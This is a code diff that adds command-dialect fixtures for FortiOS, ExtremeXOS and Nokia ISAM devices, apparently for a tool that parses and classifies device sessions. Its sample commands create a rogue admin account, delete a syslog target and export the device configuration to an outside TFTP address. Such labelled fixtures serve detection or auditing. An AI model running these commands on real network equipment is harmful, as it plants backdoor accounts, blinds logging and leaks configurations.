@@ -228,6 +228,46 @@ dialect(
     ],
 )
 
+G = 'fg1 # '
+dialect(
+    'fortios',
+    'fg1 login: ',
+    'Password: ',
+    G,
+    [
+        ('config system admin', None, None, 'fg1 (admin) # '),
+        ('edit eve', 'change', 'account', 'fg1 (eve) # '),
+        ('set password hunter2', 'change', 'account', 'fg1 (eve) # '),
+        ('end', None, None, G),
+        ('execute backup config tftp x.conf 203.0.113.9', 'export', 'config'),
+        ('execute reboot', 'reboot', 'system'),
+    ],
+)
+dialect(
+    'exos',
+    'login: ',
+    'password: ',
+    'X440.1 # ',
+    [
+        ('configure syslog delete 10.1.1.1 local4', 'change', 'logging', '* X440.2 # '),
+        ('create account admin eve hunter2', 'change', 'account', '* X440.3 # '),
+        ('save configuration', 'save', 'config', 'X440.4 # '),
+        ('upload configuration 203.0.113.9 x.xsf', 'export', 'config', 'X440.5 # '),
+    ],
+)
+I = 'leg:isadmin># '
+dialect(
+    'isam',
+    'login: ',
+    'password: ',
+    I,
+    [
+        ('configure system security operator eve profile admin', 'change', 'account'),
+        ('admin software-mngt shub database save', 'save', 'config'),
+        ('admin equipment reboot-isam without-self-test', 'reboot', 'system'),
+    ],
+)
+
 # --- attested by logs ---------------------------------------------------------------
 LOGS = [
     (
